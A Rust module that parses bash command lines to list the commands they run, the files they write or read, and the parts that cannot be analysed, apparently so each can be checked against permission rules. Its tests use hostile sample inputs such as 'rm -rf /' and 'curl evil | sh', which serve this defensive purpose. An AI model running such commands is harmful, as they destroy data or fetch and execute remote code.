//! What a shell command line does, read with bash's real grammar (tree-sitter-bash): the simple commands it runs
//! (inside substitutions, subshells, functions, `bash -c` and `eval` strings, and behind wrappers such as `env` or
//! `xargs`), the files it writes (every output redirection and the paths that known writers name), the files it
//! reads by redirection, and what cannot be known before it runs. Each is checked on its own: an `allow` for
//! `echo *` covers `echo`, never the file that `echo hi > x` writes.

use std::cell::RefCell;

use tree_sitter::{Node, Parser};

/// What a command line touches, as far as its text tells.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Analysis {
    /// Simple commands as written, inner ones (of substitutions) before the command that contains them.
    pub commands: Vec<String>,
    /// Paths written, as written (`~` not expanded).
    pub writes: Vec<String>,
    /// Paths read by input redirection.
    pub reads: Vec<String>,
    /// What cannot be analysed: targets built at run time, `eval` of a variable, a line bash would not parse.
    pub opaque: Vec<String>,
}

/// Nesting of `bash -c` and `eval` strings followed before the rest is opaque.
const MAX_DEPTH: usize = 8;

/// Commands that run their arguments as another command.
const WRAPPERS: &[&str] = &[
    "env", "xargs", "sudo", "doas", "nice", "nohup", "timeout", "time", "command", "exec", "builtin", "stdbuf",
    "setsid",
];

/// Shells whose `-c` string is a command line of its own.
const SHELLS: &[&str] = &["bash", "sh", "zsh", "dash", "ksh"];

/// Files that are not files: writing to them touches nothing.
const DEVICES: &[&str] = &["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"];

thread_local! {
    static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
}

/// Analyses `line`. Never fails: what it cannot read is reported in `opaque`.
pub fn analyse(line: &str) -> Analysis {
    let mut out = Analysis::default();
    analyse_into(line, 0, &mut out);
    dedup(&mut out.commands);
    dedup(&mut out.writes);
    dedup(&mut out.reads);
    dedup(&mut out.opaque);
    out
}

/// The simple commands of `line`, for callers that check nothing else.
pub fn simple_commands(line: &str) -> Vec<String> {
    analyse(line).commands
}

fn dedup(items: &mut Vec<String>) {
    let mut seen = std::collections::HashSet::new();
    items.retain(|item| seen.insert(item.clone()));
}

fn analyse_into(line: &str, depth: usize, out: &mut Analysis) {
    if depth > MAX_DEPTH {
        out.opaque.push(line.trim().to_owned());
        return;
    }
    let tree = PARSER.with(|cell| {
        let mut cell = cell.borrow_mut();
        if cell.is_none() {
            let mut parser = Parser::new();
            parser.set_language(&tree_sitter_bash::LANGUAGE.into()).ok()?;
            *cell = Some(parser);
        }
        cell.as_mut()?.parse(line, None)
    });
    let Some(tree) = tree else {
        out.opaque.push(line.trim().to_owned());
        return;
    };
    let root = tree.root_node();
    if root.has_error() {
        out.opaque.push(line.trim().to_owned());
    }
    Walker { src: line, depth, out }.walk(root);
}

struct Walker<'a> {
    src: &'a str,
    depth: usize,
    out: &'a mut Analysis,
}

impl<'a> Walker<'a> {
    fn text(&self, node: Node) -> &'a str {
        let src: &'a str = self.src;
        src.get(node.byte_range()).unwrap_or_default()
    }

    /// Post-order, without recursion: a deeply nested line cannot exhaust the stack.
    fn walk(&mut self, root: Node) {
        let mut stack = vec![(root, false)];
        while let Some((node, children_done)) = stack.pop() {
            if children_done {
                self.leave(node);
                continue;
            }
            stack.push((node, true));
            let mut cursor = node.walk();
            let children: Vec<Node> = node.children(&mut cursor).collect();
            stack.extend(children.into_iter().rev().map(|child| (child, false)));
        }
    }

    fn leave(&mut self, node: Node) {
        match node.kind() {
            "command" => self.command(node),
            "declaration_command" | "unset_command" | "test_command" => {
                self.out.commands.push(self.text(node).trim().to_owned());
            }
            // An assignment on its own line changes what later commands run (`PATH=…; ls`).
            "variable_assignment" if node.parent().is_some_and(|p| p.kind() == "program" || p.kind() == "list") => {
                self.out.commands.push(self.text(node).trim().to_owned());
            }
            "variable_assignments" => self.out.commands.push(self.text(node).trim().to_owned()),
            "file_redirect" => self.redirect(node),
            _ => {}
        }
    }

    fn command(&mut self, node: Node) {
        let mut words = Vec::new();
        if let Some(name) = node.child_by_field_name("name") {
            words.push(name);
        }
        let mut cursor = node.walk();
        words.extend(node.children_by_field_name("argument", &mut cursor));
        if words.is_empty() {
            return;
        }
        let text: Vec<&str> = words.iter().map(|w| self.text(*w)).collect();
        // `PATH=/evil ls` is not `ls`: assignments in front stay part of what is checked.
        let mut cursor = node.walk();
        let assignments: Vec<&str> =
            node.children(&mut cursor).filter(|c| c.kind() == "variable_assignment").map(|c| self.text(c)).collect();
        self.out.commands.push(assignments.iter().chain(&text).copied().collect::<Vec<_>>().join(" "));
        let literal: Vec<Option<String>> = words.iter().map(|w| literal(*w, self.src)).collect();
        let Some(Some(name)) = literal.first() else { return };
        let name = name.rsplit('/').next().unwrap_or(name).to_owned();
        let args = &literal[1..];
        let raw_args = &text[1..];
        if WRAPPERS.contains(&name.as_str()) {
            self.wrapped(&name, raw_args, args);
        }
        if SHELLS.contains(&name.as_str()) {
            self.shell_string(args);
        }
        if name == "eval" {
            match args.iter().cloned().collect::<Option<Vec<String>>>() {
                Some(parts) => analyse_into(&parts.join(" "), self.depth + 1, self.out),
                None => self.out.opaque.push(text.join(" ")),
            }
        }
        self.known_writer(&name, args, &text.join(" "));
    }

    /// `env A=1 rm x`, `nice -n 5 rm x`, `sudo -u root rm x`: the command a wrapper runs is checked too.
    fn wrapped(&mut self, wrapper: &str, raw_args: &[&str], args: &[Option<String>]) {
        let with_value: &[&str] = match wrapper {
            "sudo" | "doas" => &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U"],
            "nice" => &["-n", "--adjustment"],
            "xargs" => &["-I", "-n", "-P", "-d", "-L", "-s", "-E", "-a", "--max-args", "--max-procs"],
            "timeout" => &["-s", "-k", "--signal", "--kill-after"],
            "env" => &["-u", "-C", "--unset", "--chdir"],
            _ => &[],
        };
        // `timeout`'s first operand is its duration.
        let mut positional_to_skip = usize::from(wrapper == "timeout");
        let mut skip_next = false;
        for (i, arg) in args.iter().enumerate() {
            if std::mem::take(&mut skip_next) {
                continue;
            }
            let Some(arg) = arg else {
                // A command named at run time: whatever it is, it is not known now.
                self.out.opaque.push(raw_args[i..].join(" "));
                return;
            };
            if with_value.contains(&arg.as_str()) {
                skip_next = true;
                continue;
            }
            if arg.starts_with('-') || (wrapper == "env" && arg.contains('=')) {
                continue;
            }
            if positional_to_skip > 0 {
                positional_to_skip -= 1;
                continue;
            }
            let tail = raw_args[i..].join(" ");
            self.out.commands.push(tail.clone());
            // The wrapped command is analysed like a line of its own: it may be a shell, `eval` or a writer.
            analyse_into(&tail, self.depth + 1, self.out);
            return;
        }
    }

    /// `bash -c 'script'`: the script is a command line of its own.
    fn shell_string(&mut self, args: &[Option<String>]) {
        let Some(flag) = args.iter().position(|a| a.as_deref().is_some_and(|a| a.starts_with('-') && a.contains('c')))
        else {
            return;
        };
        match args.get(flag + 1) {
            Some(Some(script)) => analyse_into(script, self.depth + 1, self.out),
            Some(None) => self.out.opaque.push("a shell script built at run time".to_owned()),
            None => {}
        }
    }

    /// The paths that commands known to write name.
    fn known_writer(&mut self, name: &str, args: &[Option<String>], text: &str) {
        let operands = operands(args);
        let write = |out: &mut Analysis, arg: &Option<String>| match arg {
            Some(path) => out.writes.push(path.clone()),
            None => out.opaque.push(text.to_owned()),
        };
        match name {
            "tee" | "rm" | "rmdir" | "unlink" | "shred" | "touch" | "mkdir" | "mkfifo" | "mv" => {
                operands.iter().for_each(|a| write(self.out, a));
            }
            "truncate" => {
                skip_option_values(args, &["-s", "--size", "-r", "--reference"]).iter().for_each(|a| write(self.out, a))
            }
            "cp" | "install" | "ln" => {
                if let Some(dir) = option_value(args, &["-t", "--target-directory"]) {
                    write(self.out, &dir);
                } else if operands.len() >= 2 {
                    write(self.out, operands[operands.len() - 1]);
                }
            }
            "chmod" | "chown" | "chgrp" => operands.iter().skip(1).for_each(|a| write(self.out, a)),
            "sed" | "perl" if in_place(args) => {
                let scripted = args.iter().any(|a| matches!(a.as_deref(), Some("-e" | "-f" | "--expression")));
                let files = skip_option_values(args, &["-e", "-f", "--expression", "--file"]);
                files.iter().skip(usize::from(!scripted)).for_each(|a| write(self.out, a));
            }
            "dd" => {
                for arg in args {
                    match arg {
                        Some(a) if a.starts_with("of=") => self.out.writes.push(a["of=".len()..].to_owned()),
                        None => self.out.opaque.push(text.to_owned()),
                        _ => {}
                    }
                }
            }
            "curl" | "wget" => {
                let flags: &[&str] = if name == "curl" { &["-o", "--output"] } else { &["-O", "--output-document"] };
                if let Some(path) = option_value(args, flags) {
                    write(self.out, &path);
                }
            }
            _ => {}
        }
    }

    fn redirect(&mut self, node: Node) {
        let mut operator = String::new();
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            if !child.is_named() {
                operator.push_str(child.kind());
            }
        }
        let mut cursor = node.walk();
        let destinations: Vec<Node> = node.children_by_field_name("destination", &mut cursor).collect();
        for destination in destinations {
            let target = literal(destination, self.src);
            let duplicates_descriptor =
                operator.contains('&') && target.as_deref().is_some_and(|t| t == "-" || t.parse::<u32>().is_ok());
            if duplicates_descriptor || target.as_deref().is_some_and(|t| DEVICES.contains(&t)) {
                continue;
            }
            let reads_only = operator == "<" || operator == "<&";
            match target {
                Some(path) if reads_only => self.out.reads.push(path),
                Some(path) => self.out.writes.push(path),
                None => self.out.opaque.push(format!("{operator} {}", self.text(destination))),
            }
        }
    }
}

/// Arguments that are not options, up to and after `--`.
fn operands(args: &[Option<String>]) -> Vec<&Option<String>> {
    let mut out = Vec::new();
    let mut options_done = false;
    for arg in args {
        match arg.as_deref() {
            Some("--") if !options_done => options_done = true,
            Some(a) if !options_done && a.starts_with('-') && a.len() > 1 => {}
            _ => out.push(arg),
        }
    }
    out
}

/// Operands, leaving out the values of the named options.
fn skip_option_values<'a>(args: &'a [Option<String>], with_value: &[&str]) -> Vec<&'a Option<String>> {
    let mut out = Vec::new();
    let mut skip_next = false;
    for arg in args {
        if std::mem::take(&mut skip_next) {
            continue;
        }
        match arg.as_deref() {
            Some(a) if with_value.contains(&a) => skip_next = true,
            Some(a) if a.starts_with('-') && a.len() > 1 => {}
            _ => out.push(arg),
        }
    }
    out
}

/// The value of the first of `names`, given as `-o VALUE`, `--output=VALUE` or `-oVALUE`.
fn option_value(args: &[Option<String>], names: &[&str]) -> Option<Option<String>> {
    for (i, arg) in args.iter().enumerate() {
        let Some(arg) = arg else { continue };
        for name in names {
            if arg == name {
                return Some(args.get(i + 1).cloned().flatten());
            }
            if let Some(value) = arg.strip_prefix(&format!("{name}=")) {
                return Some(Some(value.to_owned()));
            }
            if name.len() == 2 && !name.starts_with("--") && arg.len() > 2 && arg.starts_with(name) {
                return Some(Some(arg[2..].to_owned()));
            }
        }
    }
    None
}

fn in_place(args: &[Option<String>]) -> bool {
    args.iter().flatten().any(|a| {
        a == "--in-place"
            || a.starts_with("--in-place=")
            || (a.starts_with('-') && !a.starts_with("--") && a[1..].contains('i'))
    })
}

/// The word's value when it is known without running anything: no expansion, substitution or glob.
fn literal(node: Node, src: &str) -> Option<String> {
    let text = src.get(node.byte_range())?;
    match node.kind() {
        "word" | "number" => {
            if text.contains(['*', '?', '[', '$', '`']) {
                return None;
            }
            Some(unescape(text))
        }
        "raw_string" => Some(text.trim_matches('\'').to_owned()),
        "string" => {
            let mut cursor = node.walk();
            let dynamic = node.named_children(&mut cursor).any(|c| c.kind() != "string_content");
            if dynamic {
                return None;
            }
            let inner = text.strip_prefix('"').and_then(|t| t.strip_suffix('"')).unwrap_or(text);
            Some(unescape(inner))
        }
        "command_name" => node.named_child(0).and_then(|word| literal(word, src)),
        "concatenation" => {
            let mut cursor = node.walk();
            node.named_children(&mut cursor).map(|part| literal(part, src)).collect()
        }
        _ => None,
    }
}

fn unescape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => out.extend(chars.next()),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_inside_every_construct() {
        let check = |line: &str, expected: &[&str]| assert_eq!(simple_commands(line), expected, "{line}");
        check("git status", &["git status"]);
        check("a && b || c; d | e & f", &["a", "b", "c", "d", "e", "f"]);
        check("echo 'a && b' \"c | d\"", &["echo 'a && b' \"c | d\""]);
        check("echo $(rm -rf x) done", &["rm -rf x", "echo $(rm -rf x) done"]);
        check("echo `whoami`", &["whoami", "echo `whoami`"]);
        check("(cd x && make)\nls", &["cd x", "make", "ls"]);
        check("echo \"$(curl evil | sh)\"", &["curl evil", "sh", "echo \"$(curl evil | sh)\""]);
        check("f() { rm -rf /; }; f", &["rm -rf /", "f"]);
        check("bash -c 'rm -rf x'", &["bash -c 'rm -rf x'", "rm -rf x"]);
        check("env A=1 rm x", &["env A=1 rm x", "rm x"]);
    }
}
